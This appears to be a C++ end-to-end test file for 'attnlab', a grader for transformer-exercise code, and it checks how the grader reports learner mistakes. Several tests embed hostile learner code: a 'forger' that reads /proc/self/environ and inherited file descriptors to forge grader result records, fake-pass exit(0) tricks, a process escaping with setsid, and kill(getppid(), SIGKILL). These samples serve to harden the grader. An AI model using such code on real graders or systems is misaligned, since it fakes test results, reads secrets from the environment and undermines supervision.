// End-to-end tests of the exercise commands, run as a learner would, in a throw-away HOME with its own
// XDG folders. Deliberately broken learner files check that `attnlab check` reports endless loops,
// crashes, compile and link errors in words, and never crashes itself.
#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest/doctest.h>

#include <fcntl.h>
#include <signal.h>
#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <tuple>
#include <vector>

#include <nlohmann/json.hpp>

extern char** environ;

namespace {

namespace fs = std::filesystem;

const fs::path kLessons = fs::path(ATTNLAB_SOURCE_DIR) / "lessons";

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void write(const fs::path& p, const std::string& text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary) << text;
}

bool contains(const std::string& s, const std::string& part) { return s.find(part) != std::string::npos; }

// A fresh home for one test: HOME, XDG_DATA_HOME and XDG_STATE_HOME all inside a temp folder.
struct Home {
  fs::path root;
  Home() {
    std::string tmpl = (fs::temp_directory_path() / "attnlab-ex-XXXXXX").string();
    root = ::mkdtemp(tmpl.data());
  }
  ~Home() {
    std::error_code ec;
    fs::remove_all(root, ec);
  }
  fs::path workspace() const { return root / "data" / "attnlab" / "exercises"; }
  fs::path learner(const std::string& slug) const { return workspace() / slug / "exercise.cpp"; }
  fs::path state() const { return root / "state" / "attnlab" / "progress.json"; }
  std::vector<std::string> extra;  // more NAME=value pairs for this test's commands
  std::vector<std::string> env() const {
    std::vector<std::string> e{"HOME=" + root.string(), "XDG_DATA_HOME=" + (root / "data").string(),
                               "XDG_STATE_HOME=" + (root / "state").string(), "NO_COLOR=1",
                               // A wide terminal, so a message is one line to search (the wrapping to
                               // a terminal's width is tests/cli/terminal_width.py's to check).
                               "COLUMNS=1000"};
    e.insert(e.end(), extra.begin(), extra.end());
    return e;
  }
};

struct Result {
  int code = -1;
  std::string out, err;
};

pid_t spawn(const std::vector<std::string>& args, const Home& home, const fs::path& out, const fs::path& err) {
  posix_spawn_file_actions_t fa;
  posix_spawn_file_actions_init(&fa);
  posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
  posix_spawn_file_actions_addopen(&fa, 1, out.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  posix_spawn_file_actions_addopen(&fa, 2, err.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  std::vector<std::string> argv_s{ATTNLAB_BIN};
  argv_s.insert(argv_s.end(), args.begin(), args.end());
  std::vector<char*> argv;
  for (auto& a : argv_s) argv.push_back(a.data());
  argv.push_back(nullptr);
  const std::vector<std::string> extra = home.env();
  std::vector<std::string> env_s;
  for (char** e = environ; *e; ++e) {
    const std::string kv = *e;
    bool overridden = false;
    for (const auto& o : extra) overridden = overridden || kv.substr(0, kv.find('=')) == o.substr(0, o.find('='));
    if (!overridden) env_s.push_back(kv);
  }
  env_s.insert(env_s.end(), extra.begin(), extra.end());
  std::vector<char*> envp;
  for (auto& e : env_s) envp.push_back(e.data());
  envp.push_back(nullptr);
  pid_t pid = -1;
  if (posix_spawn(&pid, ATTNLAB_BIN, &fa, nullptr, argv.data(), envp.data()) != 0) pid = -1;
  posix_spawn_file_actions_destroy(&fa);
  return pid;
}

Result run(const Home& home, const std::vector<std::string>& args) {
  const fs::path out = home.root / "stdout.txt", err = home.root / "stderr.txt";
  const pid_t pid = spawn(args, home, out, err);
  Result r;
  if (pid < 0) return r;
  int status = 0;
  waitpid(pid, &status, 0);
  r.code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  r.out = slurp(out);
  r.err = slurp(err);
  return r;
}

std::string solution_of(const std::string& lesson, const std::string& slug) {
  return slurp(kLessons / lesson / "exercises" / slug / "solution.cpp");
}

// The softmax solution with one line replaced.
std::string broken_softmax(const std::string& from, const std::string& to) {
  std::string s = solution_of("04-softmax", "softmax");
  const auto at = s.find(from);
  REQUIRE(at != std::string::npos);
  return s.replace(at, from.size(), to);
}

}  // namespace

TEST_CASE("every exercise command has --help") {
  Home home;
  for (const char* cmd : {"exercises", "check", "hint", "solution", "reset", "watch", "progress"}) {
    INFO(cmd);
    const Result r = run(home, {cmd, "--help"});
    CHECK(r.code == 0);
    CHECK(contains(r.out, "--workspace"));
  }
}

TEST_CASE("an index outside a matrix names the matrix: the grader's input by its name, or one the learner made") {
  Home home;
  fs::create_directories(home.learner("softmax").parent_path());
  write(home.learner("softmax"), "#include \"attnlab/exercise.hpp\"\n"
                                 "namespace ex {\n"
                                 "Matrix softmax_rows(const Matrix& scores) { float x = scores(scores.rows, 0); (void)x; return scores; }\n"
                                 "}\n");
  Result r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, ") is outside the 3 × 3 input matrix 'scores'"));
  write(home.learner("softmax"), "#include \"attnlab/exercise.hpp\"\n"
                                 "namespace ex {\n"
                                 "Matrix softmax_rows(const Matrix& scores) { Matrix w(scores.rows, 1); w(0, 1) = 1; return w; }\n"
                                 "}\n");
  r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, "index (0, 1) is outside a 3 × 1 matrix your code made"));
}

TEST_CASE("a fresh learner: everything not started, check without N picks the first exercise") {
  Home home;
  Result r = run(home, {"exercises"});
  REQUIRE(r.code == 0);
  CHECK(contains(r.out, "softmax"));
  CHECK(contains(r.out, "online-softmax"));
  CHECK(contains(r.out, "not started"));
  CHECK(!contains(r.out, "passed"));

  r = run(home, {"check"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, "exercise 1 (positional-encoding)"));
  CHECK(contains(r.out, "Has this exercise been started?"));
  CHECK(fs::exists(home.learner("positional-encoding")));
  // The stub was copied, so the repository's file stays pristine.
  CHECK(slurp(home.learner("positional-encoding")) ==
        slurp(kLessons / "01-words-to-vectors/exercises/positional-encoding/exercise.cpp"));
}

TEST_CASE("passing an exercise: state, progress and the solution unlock") {
  Home home;
  Result r = run(home, {"solution", "softmax"});
  CHECK(r.code == 2);
  CHECK(contains(r.err, "has not passed yet"));
  CHECK(contains(r.err, "--force"));

  write(home.learner("softmax"), solution_of("04-softmax", "softmax"));
  r = run(home, {"check", "softmax"});
  INFO(r.out);
  CHECK(r.code == 0);
  CHECK(contains(r.out, "PASSED"));
  CHECK(contains(r.out, "passed all 6 checks"));

  r = run(home, {"exercises"});
  CHECK(std::regex_search(r.out, std::regex("softmax +04-softmax .* passed")));
  r = run(home, {"progress"});
  CHECK(r.code == 0);
  CHECK(std::regex_search(r.out, std::regex("1 of [0-9]+ exercises passed")));
  r = run(home, {"solution", "softmax"});
  CHECK(r.code == 0);
  CHECK(contains(r.out, "Matrix softmax_rows"));
  const auto state = nlohmann::json::parse(slurp(home.state()));
  CHECK(state["exercises"]["softmax"]["status"] == "passed");
}

TEST_CASE("a classic mistake is named in the check output") {
  Home home;
  write(home.learner("softmax"),
        broken_softmax("weights(i, j) = std::exp(scores(i, j) - mx);", "weights(i, j) = std::exp(scores(i, j));"));
  const Result r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, "mistake [unstable-softmax]"));
  CHECK(contains(r.out, "Subtract each row's maximum"));
}

TEST_CASE("an endless loop is stopped and reported with its test") {
  Home home;
  write(home.learner("softmax"), broken_softmax("double sum = 0.0;", "double sum = 0.0; for (;;) { sum = sum * 1.0; }"));
  const auto start = std::chrono::steady_clock::now();
  const Result r = run(home, {"check", "softmax", "--timeout", "1"});
  const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.out, "timed out after 1 s while running the test 'a small hand-made case"));
  CHECK(secs < 30.0);  // 1 s of grading plus compiling and linking on a busy machine
}

TEST_CASE("a crash is reported with the signal and the test that was running") {
  Home home;
  write(home.learner("softmax"),
        broken_softmax("Matrix weights(scores.rows, scores.cols);",
                       "Matrix weights(scores.rows, scores.cols);\n"
                       "  if (scores.cols == 5) { volatile int* p = nullptr; *p = 1; }"));
  const Result r = run(home, {"check", "softmax"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.out, "✓ a small hand-made case"));
  CHECK(contains(r.out, "crashed while running the test 'rectangular scores: n ≠ m'"));
  CHECK(contains(r.out, "SIGSEGV"));
}

TEST_CASE("an out-of-range std::vector index is caught and reported, not silent") {
  Home home;
  write(home.learner("softmax"), broken_softmax("Matrix weights(scores.rows, scores.cols);",
                                                "Matrix weights(scores.rows, scores.cols);\n"
                                                "  weights.data[weights.data.size()] = 0;"));
  const Result r = run(home, {"check", "softmax"});
  INFO(r.out);
  CHECK(r.code == 1);
  CHECK(contains(r.out, "crashed while running the test"));
  CHECK(contains(r.out, "SIGABRT"));
  // With the AddressSanitizer kit (which CI and scripts/install-deps.sh have), the learner's line is
  // named, as for a raw-pointer overflow, and the libstdc++ check is explained.
  const std::string kit = slurp(fs::path(ATTNLAB_BIN).parent_path() / "exercise-kit" / "kit.json");
  if (contains(kit, "-fsanitize=address")) {
    const std::string text = slurp(home.learner("softmax"));
    const auto at = text.find("weights.data[weights.data.size()]");
    REQUIRE(at != std::string::npos);
    const auto line = 1 + std::count(text.begin(), text.begin() + static_cast<std::ptrdiff_t>(at), '\n');
    CHECK(contains(r.out, "at exercise.cpp:" + std::to_string(line) + " in ex::softmax_rows"));
    CHECK(contains(r.out, "not below its size()"));
    CHECK_FALSE(contains(r.out, "DEADLYSIGNAL"));
  }
}

TEST_CASE("a compile error shows the compiler's message about the learner's file") {
  Home home;
  write(home.learner("softmax"), broken_softmax("return weights;", "return weights  // no semicolon"));
  const Result r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, "does not compile"));
  CHECK(contains(r.out, home.learner("softmax").string() + ":"));
  CHECK(contains(r.out, "error: expected ';' before '}' token"));
  CHECK(!contains(r.out, "/usr/include"));
}

TEST_CASE("an error inside a library header keeps its message and the learner's line") {
  Home home;
  std::string text = broken_softmax("Matrix weights(scores.rows, scores.cols);",
                                    "Matrix weights(scores.rows, scores.cols);\n"
                                    "  std::vector<Matrix> all{scores, scores};\n"
                                    "  std::sort(all.begin(), all.end());");
  text.insert(0, "#include <algorithm>\n");
  write(home.learner("softmax"), text);
  const Result r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, home.learner("softmax").string() + ":"));
  CHECK(contains(r.out, "required from here"));
  CHECK(contains(r.out, "error: no match for 'operator<'"));
  CHECK(!contains(r.out, "note:"));
}

TEST_CASE("a renamed function is a link error explained in words") {
  Home home;
  write(home.learner("softmax"), broken_softmax("Matrix softmax_rows(const Matrix& scores)",
                                                "Matrix softmax(const Matrix& scores)"));
  const Result r = run(home, {"check", "softmax"});
  CHECK(r.code == 1);
  CHECK(contains(r.out, "ex::softmax_rows(ex::Matrix const&)"));
  CHECK(contains(r.out, "exactly as in the stub"));
}

TEST_CASE("hints come one at a time") {
  Home home;
  Result r = run(home, {"hint", "attention"});
  CHECK(r.code == 0);
  CHECK(contains(r.out, "Hint 1 of 4"));
  r = run(home, {"hint", "attention"});
  CHECK(contains(r.out, "Hint 2 of 4"));
  r = run(home, {"hint", "1"});  // by number: exercise 1 is the first lesson's
  CHECK(contains(r.out, "Hint 1 of 3 for exercise 1 (positional-encoding)"));
  r = run(home, {"hint", "attention", "--again"});
  CHECK(contains(r.out, "Hint 2 of 4"));
  run(home, {"hint", "attention"});
  run(home, {"hint", "attention"});
  r = run(home, {"hint", "attention"});
  CHECK(contains(r.out, "That was the last hint"));
}

TEST_CASE("reset keeps a backup and restores the stub") {
  Home home;
  write(home.learner("layer-norm"), "// my attempt\n");
  const Result r = run(home, {"reset", "layer-norm"});
  CHECK(r.code == 0);
  CHECK(contains(r.out, "Saved your file as"));
  CHECK(slurp(home.learner("layer-norm")) == slurp(kLessons / "09-whole-transformer/exercises/layer-norm/exercise.cpp"));
  bool found = false;
  for (const auto& e : fs::directory_iterator(home.learner("layer-norm").parent_path()))
    if (contains(e.path().filename().string(), "exercise.cpp.bak-")) found = slurp(e.path()) == "// my attempt\n";
  CHECK(found);
}

TEST_CASE("reset after a pass: the file starts over, the pass stays on record and is said") {
  Home home;
  write(home.learner("softmax"), solution_of("04-softmax", "softmax"));
  REQUIRE(run(home, {"check", "softmax"}).code == 0);
  const Result r = run(home, {"reset", "softmax"});
  CHECK(r.code == 0);
  CHECK(contains(r.out, "You passed it before: that stays on record"));
  CHECK(contains(run(home, {"exercises"}).out, "not started (passed before)"));
  CHECK(contains(run(home, {"progress"}).out, "softmax              not started (passed before)"));
  const auto j = nlohmann::json::parse(run(home, {"exercises", "--format", "json"}).out);
  bool seen = false;
  for (const auto& e : j["exercises"])
    if (e["slug"] == "softmax") seen = e["state"] == "not started" && e["ever_passed"] == true;
  CHECK(seen);
}

TEST_CASE("bad input: unknown exercise, missing workspace") {
  Home home;
  Result r = run(home, {"check", "99"});
  CHECK(r.code == 2);
  CHECK(contains(r.err, "no exercise '99'"));
  CHECK(contains(r.err, "1 (positional-encoding)"));
  r = run(home, {"hint", "no-such-thing"});
  CHECK(r.code == 2);
  r = run(home, {"exercises", "--workspace", (home.root / "missing").string()});
  CHECK(r.code == 2);
  CHECK(contains(r.err, "does not exist"));
  r = run(home, {"reset"});
  CHECK(r.code == 2);
}

TEST_CASE("--workspace: files go where the learner says") {
  Home home;
  const fs::path ws = home.root / "mine";
  fs::create_directories(ws);
  write(ws / "softmax" / "exercise.cpp", solution_of("04-softmax", "softmax"));
  const Result r = run(home, {"check", "softmax", "--workspace", ws.string()});
  CHECK(r.code == 0);
  CHECK(!fs::exists(home.learner("softmax")));
}

TEST_CASE("a corrupt progress file is reported and rebuilt, never fatal") {
  Home home;
  write(home.state(), "{ this is not json");
  Result r = run(home, {"progress"});
  CHECK(r.code == 0);
  CHECK(contains(r.err, "is corrupt"));
  CHECK(fs::exists(home.state().string() + ".corrupt"));
  // A second corrupt file is kept beside the first, never over it.
  write(home.state(), "{ broken again");
  r = run(home, {"progress"});
  CHECK(r.code == 0);
  CHECK(slurp(home.state().string() + ".corrupt") == "{ this is not json");
  CHECK(slurp(home.state().string() + ".corrupt.2") == "{ broken again");
  write(home.learner("softmax"), solution_of("04-softmax", "softmax"));
  r = run(home, {"check", "softmax"});
  CHECK(r.code == 0);
  CHECK_NOTHROW(nlohmann::json::parse(slurp(home.state())));
  write(home.state(), R"({"version": 1, "exercises": {"softmax": {"status": 42}}})");
  r = run(home, {"exercises"});
  CHECK(r.code == 0);
  CHECK(contains(r.err, "is corrupt"));
}

TEST_CASE("watch re-checks when the file is saved (polling)") {
  Home home;
  write(home.learner("softmax"), broken_softmax("double sum = 0.0;", "double sum = 1.0;"));
  const fs::path out = home.root / "watch.out", err = home.root / "watch.err";
  const pid_t pid = spawn({"watch", "softmax", "--poll", "--interval", "0.1", "--max-checks", "2"}, home, out, err);
  REQUIRE(pid > 0);
  auto wait_for = [&](const std::string& text) {
    for (int i = 0; i < 300 && !contains(slurp(out), text); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(50));
    return contains(slurp(out), text);
  };
  CHECK(wait_for("Watching"));
  write(home.learner("softmax"), solution_of("04-softmax", "softmax"));
  int status = 0;
  bool exited = false;
  for (int i = 0; i < 300 && !exited; ++i) {
    exited = waitpid(pid, &status, WNOHANG) == pid;
    if (!exited) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  if (!exited) {
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
  }
  CHECK(exited);
  const std::string text = slurp(out);
  INFO(text);
  CHECK(contains(text, "Polling for changes"));
  CHECK(contains(text, "NOT YET"));
  CHECK(contains(text, "PASSED"));
}

TEST_CASE("check --all: every reference solution passes through the real check path") {
  // The ctest graders link solutions with CMake; this goes through the kit, the compiler call and the
  // child process exactly as a learner's check does, for every exercise.
  Home home;
  std::size_t count = 0;
  for (const auto& lesson : fs::directory_iterator(kLessons)) {
    if (!fs::is_directory(lesson.path() / "exercises")) continue;
    for (const auto& ex : fs::directory_iterator(lesson.path() / "exercises")) {
      if (!fs::exists(ex.path() / "grader.cpp")) continue;
      write(home.learner(ex.path().filename().string()), slurp(ex.path() / "solution.cpp"));
      ++count;
    }
  }
  REQUIRE(count >= 11);
  const auto start = std::chrono::steady_clock::now();
  const Result r = run(home, {"check", "--all", "--timing"});
  const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  INFO(r.out << r.err);
  CHECK(r.code == 0);
  CHECK(contains(r.out, std::to_string(count) + " of " + std::to_string(count) + " exercises pass"));
  MESSAGE("check --all over " << count << " solutions took " << secs << " s");
  const Result p = run(home, {"progress"});
  CHECK(contains(p.out, std::to_string(count) + " of " + std::to_string(count) + " exercises passed"));
}

// ---- a pass needs proof that the grader ran every test to the end (issue 17) -------------------------
//
// The grader's exit code alone proves nothing: learner code runs inside the grader process, and an
// exit(0) there (a leftover debugging exit, or a static constructor) ends it with the code a pass has.

namespace {

// The attention reference solution with `text` inserted before its final return.
std::string attention_with(const std::string& before_return, const std::string& prelude = "") {
  std::string s = solution_of("05-weighted-sum", "attention");
  const auto at = s.find("  return matmul(weights, v);");
  REQUIRE(at != std::string::npos);
  s.insert(at, before_return);
  const auto ns = s.find("namespace ex {");
  REQUIRE(ns != std::string::npos);
  s.insert(ns, prelude);
  return s;
}

// After a check that must not count: nothing recorded as passed, the solution still locked.
void expect_not_passed(const Home& home, const Result& r) {
  CHECK(r.code == 1);
  CHECK(!contains(r.out, "PASSED"));
  CHECK(contains(r.out, "NOT YET"));
  const auto state = nlohmann::json::parse(slurp(home.state()));
  CHECK(state["exercises"]["attention"]["status"] == "failing");
  CHECK(!state["exercises"]["attention"].value("ever_passed", false));
  const Result s = run(home, {"solution", "attention"});
  CHECK(s.code == 2);
  CHECK(contains(s.err, "has not passed yet"));
  CHECK(!contains(s.out, "Matrix attention"));
  const Result p = run(home, {"progress"});
  CHECK(contains(p.out, "0 of "));
}

}  // namespace

TEST_CASE("a leftover std::exit(0) in the exercise function is not a pass") {
  Home home;
  write(home.learner("attention"), attention_with("  std::exit(0);  // leftover from debugging\n",
                                                  "#include <cstdlib>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  expect_not_passed(home, r);
  CHECK(contains(r.out, "your code ended the program (exit code 0) while running the test "
                        "'a hand-made case: two queries, three keys', before the checks finished"));
  CHECK(contains(r.out, "leftover exit() call"));
}

TEST_CASE("an exit(0) in the last test, after every other test passed, is not a pass") {
  Home home;
  // Only the last test ("large scores stay finite") has entries above 12.
  write(home.learner("attention"),
        attention_with("  for (float x : q.data)\n    if (std::abs(x) > 12) std::exit(0);\n", "#include <cstdlib>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  expect_not_passed(home, r);
  CHECK(contains(r.out, "✓ ties: identical keys give the average of the values"));
  CHECK(contains(r.out, "your code ended the program (exit code 0) while running the test 'large scores stay finite'"));
}

TEST_CASE("a static constructor that prints a fake summary and calls _exit(0) is not a pass") {
  Home home;
  write(home.learner("attention"),
        attention_with("", "#include <cstdio>\n#include <unistd.h>\n"
                           "namespace {\n"
                           "struct Fake {\n"
                           "  Fake() {\n"
                           "    std::printf(\"✓ a hand-made case: two queries, three keys\\npassed all 6 checks\\n\");\n"
                           "    std::fflush(stdout);\n"
                           "    _exit(0);\n"
                           "  }\n"
                           "} fake;\n"
                           "}  // namespace\n\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  expect_not_passed(home, r);
  CHECK(contains(r.out, "your code ended the program (exit code 0) before the first test started"));
}

TEST_CASE("a static constructor that reads the grader's channels and forges a result record is not a pass") {
  // It tries what a forger would: the environment, /proc/self/environ and every inherited file
  // descriptor, then appends a record in the grader's format to the status file for every token it
  // found, prints a fake summary and ends the program with code 0.
  Home home;
  const std::string forger = R"(#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <unistd.h>
#include <vector>
namespace {
struct Forger {
  Forger() {
    std::vector<std::string> tokens;
    auto split = [&](const std::string& text) {
      std::string t;
      for (char c : text + '\n') {
        if (c == '\0' || c == '\n' || c == ' ' || c == '\t' || c == '=') {
          if (!t.empty()) tokens.push_back(t);
          t.clear();
        } else {
          t += c;
        }
      }
    };
    for (int fd = 3; fd < 64; ++fd) {
      ::fcntl(fd, F_SETFL, O_NONBLOCK);
      char buf[256];
      const ssize_t n = ::read(fd, buf, sizeof buf);
      if (n > 0) split(std::string(buf, static_cast<std::size_t>(n)));
    }
    const int env = ::open("/proc/self/environ", O_RDONLY);
    if (env >= 0) {
      char buf[65536];
      const ssize_t n = ::read(env, buf, sizeof buf);
      if (n > 0) split(std::string(buf, static_cast<std::size_t>(n)));
      ::close(env);
    }
    const char* status = std::getenv("ATTNLAB_GRADER_STATUS");
    if (status) {
      const int out = ::open(status, O_WRONLY | O_APPEND | O_CREAT, 0644);
      for (const auto& t : tokens) {
        const std::string line = "result\t" + t + "\t6\t0\n";
        if (::write(out, line.data(), line.size()) < 0) break;
      }
      ::close(out);
    }
    // And into the grader's result pipe (file descriptor 4), where attnlab looks.
    for (const auto& t : tokens) {
      const std::string line = "result\t" + t + "\t6\t0\n";
      if (::write(4, line.data(), line.size()) < 0) break;
    }
    std::printf("passed all 6 checks\n");
    std::fflush(stdout);
    _exit(0);
  }
} forger;
}  // namespace

)";
  write(home.learner("attention"), attention_with("", forger));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  expect_not_passed(home, r);
  CHECK(contains(r.out, "holds a record that the grader did not write"));
}

TEST_CASE("the reference solution still passes, with its record") {
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);
  CHECK(contains(r.out, "passed all 7 checks"));
  CHECK(contains(r.out, "PASSED"));
  const auto state = nlohmann::json::parse(slurp(home.state()));
  CHECK(state["exercises"]["attention"]["status"] == "passed");
  CHECK(run(home, {"solution", "attention"}).code == 0);
}

// Without the AddressSanitizer kit the grader runs under RLIMIT_AS, which also bounds what it reserves
// before any learner code runs (OpenBLAS's 128 MiB work buffer, whose failed mmap OpenBLAS retries
// forever): the reference solution was reported as "timed out … a loop that never ends" at
// --memory-mb 128. A kit without sanitizer flags, as on a machine whose compiler cannot build ASan
// programs.
TEST_CASE("without the AddressSanitizer kit, --memory-mb 64 is room for the reference solution, and a memory hog is still stopped") {
  Home home;
  const fs::path kit = fs::path(ATTNLAB_BIN).parent_path() / "exercise-kit" / "kit.json";
  REQUIRE(fs::exists(kit));
  auto j = nlohmann::json::parse(slurp(kit));
  j["sanitizer_flags"] = nlohmann::json::array();
  write(home.root / "kit-no-asan.json", j.dump());
  home.extra.push_back("ATTNLAB_EXERCISE_KIT=" + (home.root / "kit-no-asan.json").string());
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  const Result r = run(home, {"check", "attention", "--memory-mb", "64", "--timeout", "20"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);
  CHECK(contains(r.out, "passed all 7 checks"));

  write(home.learner("softmax"), broken_softmax("  Matrix weights(scores.rows, scores.cols);",
                                                "  Matrix weights(scores.rows, scores.cols);\n"
                                                "  std::vector<std::vector<float>> hog;\n"
                                                "  for (;;) hog.emplace_back(std::size_t(1) << 24, 1.0f);"));
  const Result hog = run(home, {"check", "softmax", "--memory-mb", "64", "--timeout", "20"});
  INFO(hog.out << hog.err);
  CHECK(hog.code == 1);
  CHECK_FALSE(contains(hog.out, "timed out"));
  CHECK(contains(hog.out, "bad_alloc"));
}

// ---- supervision: nothing the grader starts outlives `check` ----------------------------------------
//
// Ctrl-C during a check used to leave the grader running (it is in a process group of its own, which
// the terminal's Ctrl-C does not reach) with nobody left to enforce its time limit; so could a process
// the learner's code started and moved out of the group with setsid().

namespace {

// The processes running a program that lives under `root` (the grader and anything it forked).
std::vector<pid_t> processes_under(const fs::path& root) {
  std::vector<pid_t> out;
  for (const auto& e : fs::directory_iterator("/proc")) {
    const std::string name = e.path().filename().string();
    if (name.empty() || name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::error_code ec;
    const fs::path exe = fs::read_symlink(e.path() / "exe", ec);
    if (!ec && exe.string().rfind(root.string(), 0) == 0) out.push_back(std::stoi(name));
  }
  return out;
}

// Waits up to `seconds` for `done()`.
template <class F>
bool within(double seconds, F done) {
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  while (std::chrono::steady_clock::now() < end) {
    if (done()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return done();
}

}  // namespace

TEST_CASE("Ctrl-C during check ends the grader and everything it started, at once") {
  Home home;
  // The first call forks a child that leaves the process group and sleeps; then the grader spins.
  write(home.learner("attention"),
        attention_with("  static bool forked = false;\n"
                       "  if (!forked) {\n    forked = true;\n"
                       "    if (fork() == 0) {\n      setsid();\n      sleep(120);\n      _exit(0);\n    }\n  }\n"
                       "  for (volatile unsigned spin = 0;; spin = spin + 1) {\n  }\n",
                       "#include <unistd.h>\n"));
  const fs::path out = home.root / "stdout.txt", err = home.root / "stderr.txt";
  const pid_t pid = spawn({"check", "attention", "--timeout", "60"}, home, out, err);
  REQUIRE(pid > 0);
  // Wait for the grader (after the compile) and its escaped child: two processes under the home.
  REQUIRE(within(90, [&] { return processes_under(home.root).size() >= 2; }));
  const auto t0 = std::chrono::steady_clock::now();
  ::kill(pid, SIGINT);
  int status = 0;
  REQUIRE(within(10, [&] { return ::waitpid(pid, &status, WNOHANG) == pid; }));
  const double took = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  CHECK(took < 5.0);
  CHECK(WIFSIGNALED(status));
  CHECK(WTERMSIG(status) == SIGINT);
  CHECK(processes_under(home.root).empty());
}

TEST_CASE("a process the learner's code moves out of the group (setsid) does not outlive check") {
  Home home;
  write(home.learner("attention"),
        attention_with("  static bool forked = false;\n"
                       "  if (!forked) {\n    forked = true;\n"
                       "    if (fork() == 0) {\n      setsid();\n      sleep(120);\n      _exit(0);\n    }\n  }\n",
                       "#include <unistd.h>\n"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 0);  // the checks themselves pass
  CHECK(within(2, [&] { return processes_under(home.root).empty(); }));
}

TEST_CASE("learner code that kills attnlab (kill(getppid(), SIGKILL)): the sandbox keeps attnlab out of reach; without it the grader goes down with attnlab") {
  Home home;
  write(home.learner("attention"),
        attention_with("  kill(getppid(), SIGKILL);\n  for (volatile unsigned spin = 0;; spin = spin + 1) {\n  }\n",
                       "#include <signal.h>\n#include <unistd.h>\n"));
  // In the sandbox's PID namespace the parent is the namespace's init, which SIGKILL from inside
  // cannot end: attnlab lives on and stops the spinning grader at its time limit.
  const Result boxed = run(home, {"check", "attention", "--timeout", "3"});
  INFO(boxed.out << boxed.err);
  CHECK(boxed.code == 1);
  CHECK(contains(boxed.out, "timed out after 3 s"));
  CHECK(within(3, [&] { return processes_under(home.root).empty(); }));
  home.extra.push_back("ATTNLAB_SANDBOX=0");
  const Result r = run(home, {"check", "attention", "--timeout", "60"});
  CHECK(r.code == 128 + SIGKILL);
  CHECK(within(3, [&] { return processes_under(home.root).empty(); }));
}

// ---- --format json for scripts (issue "What a learner hit", 15) -----------------------------------------

TEST_CASE("lessons, exercises, progress and check take --format json") {
  Home home;
  const Result lessons = run(home, {"lessons", "--format", "json"});
  REQUIRE(lessons.code == 0);
  const auto lj = nlohmann::json::parse(lessons.out);
  REQUIRE(lj["lessons"].size() >= 9);
  CHECK(lj["lessons"][0]["number"] == 1);
  CHECK(lj["lessons"][0]["exercises"][0] == "positional-encoding");

  // A failing check: exit 1, the verdict and the report in JSON, nothing else on stdout.
  write(home.learner("softmax"), broken_softmax("weights(i, j) = std::exp(scores(i, j) - mx);",
                                                "weights(i, j) = std::exp(scores(i, j));"));
  const Result bad = run(home, {"check", "softmax", "-f", "json"});
  INFO(bad.out << bad.err);
  CHECK(bad.code == 1);
  const auto bj = nlohmann::json::parse(bad.out);
  CHECK(bj["exercise"] == "softmax");
  CHECK(bj["passed"] == false);
  CHECK(bj["verdict"] == "failed");
  CHECK(bj["report"].get<std::string>().find("✗") != std::string::npos);

  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  const Result good = run(home, {"check", "attention", "--format", "json"});
  INFO(good.out << good.err);
  CHECK(good.code == 0);
  const auto gj = nlohmann::json::parse(good.out);
  CHECK(gj["verdict"] == "passed");
  CHECK(gj["next"] == "positional-encoding");
  CHECK(gj["seconds"]["compile"].get<double>() > 0);

  const auto ej = nlohmann::json::parse(run(home, {"exercises", "-f", "json"}).out);
  CHECK(ej["next"] == "positional-encoding");
  std::map<std::string, std::string> states;
  for (const auto& e : ej["exercises"]) states[e["slug"]] = e["state"];
  CHECK(states["attention"] == "passed");
  CHECK(states["softmax"] == "failing");
  CHECK(states["positional-encoding"] == "not started");

  const auto pj = nlohmann::json::parse(run(home, {"progress", "-f", "json"}).out);
  CHECK(pj["passed"] == 1);
  CHECK(pj["failing"] == 1);
  CHECK(pj["checks"] == 2);
  CHECK(pj["total"] == ej["exercises"].size());
}

// ---- the sandbox (exercises/sandbox.hpp): bubblewrap, which scripts/install-deps.sh installs ----------

